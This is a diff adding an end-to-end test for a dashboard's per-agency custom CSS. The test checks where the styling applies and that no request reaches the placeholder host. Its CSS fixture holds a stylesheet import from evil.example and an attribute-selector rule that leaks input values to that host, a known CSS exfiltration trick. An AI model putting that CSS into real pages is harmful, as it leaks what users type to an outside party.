@@ -1,0 +1,80 @@
+import { expect, it } from 'vitest'
+import { agentWith } from '../../support/agentWith.ts'
+import { openBrowser } from '../../support/browser.ts'
+import { clientWith } from '../../support/clientWith.ts'
+import { takePicture } from '../../support/takePicture.ts'
+
+const browser = openBrowser()
+
+const customCSS = `
+@import url(//evil.example/x.css);
+:root { --accent-ink: rgb(1, 2, 3); letter-spacing: 2px; }
+a, button, input, :not(&) { text-transform: uppercase; }
+input[value^='a'] { background: url(//evil.example/a); }
+* { position: fixed; }
+@keyframes sway { to { opacity: 0.99; } }
+@media (min-width: 1px) { a { text-indent: 3px; } }
+`
+
+it('an agency’s own CSS dresses the dashboard, and neither sign-in nor layers over it: H-081', async () => {
+  const owner = await agentWith('eu')
+  const client = await clientWith(owner, { pages: ['/convos', '/leads'], brand: { customCSS } })
+  const { agencyId } = await client.stored()
+  await owner.call('saveTab', {
+    region: 'eu',
+    agencyId,
+    tab: {
+      label: 'Figures',
+      href: '/figures',
+      iconUrl: '',
+      pageType: 'html',
+      iframeUrl: '',
+      alwaysVisible: true,
+      htmlContent: '<h1>Figures</h1>',
+      jsContent: '',
+    },
+  })
+  const page = await (await browser.person()).newPage()
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  const styleOf = (selector: string) =>
+    page
+      .locator(selector)
+      .first()
+      .evaluate((element) => {
+        const { textTransform, position, letterSpacing, textIndent } = getComputedStyle(element)
+        return { textTransform, position, letterSpacing, textIndent }
+      })
+  await page.goto(`${client.origin}/login`)
+  const submit = page.getByRole('button', { name: 'Sign In', exact: true })
+  await submit.waitFor()
+  expect(await styleOf('form button')).toMatchObject({ textTransform: 'none', letterSpacing: 'normal' })
+  await page.getByLabel('E-mail').fill(client.email)
+  await page.getByLabel('Password', { exact: true }).fill(client.password)
+  await submit.click()
+  await page.getByRole('link', { name: 'Leads' }).waitFor()
+  await page.waitForFunction(() =>
+    [...document.querySelectorAll('nav a')].every(
+      (link) => getComputedStyle(link).textTransform === 'uppercase',
+    ),
+  )
+  expect(await styleOf('nav a')).toEqual({
+    textTransform: 'uppercase',
+    position: 'static',
+    letterSpacing: '2px',
+    textIndent: '3px',
+  })
+  expect(await styleOf('body')).toMatchObject({ textTransform: 'none', letterSpacing: 'normal' })
+  await takePicture(page, 'client-own-css')
+  // Not where it stands whose content is shown: that must not be hidden.
+  await page.getByRole('link', { name: 'Figures' }).click()
+  await page.getByText('This content is from Harbour Desk').waitFor()
+  expect(await styleOf('nav a')).toMatchObject({ textTransform: 'none' })
+  await page.getByRole('link', { name: 'Leads' }).click()
+  await page.getByRole('button', { name: 'Account of Cleo Client' }).click()
+  await page.getByRole('menuitem', { name: 'Account' }).click()
+  await page.getByRole('dialog').getByLabel('Name').waitFor()
+  expect(await styleOf('[role=dialog] button')).toMatchObject({ textTransform: 'none' })
+  expect(asked.filter((address) => address.includes('evil'))).toEqual([])
+  expect(browser.errors.splice(0)).toEqual([])
+})
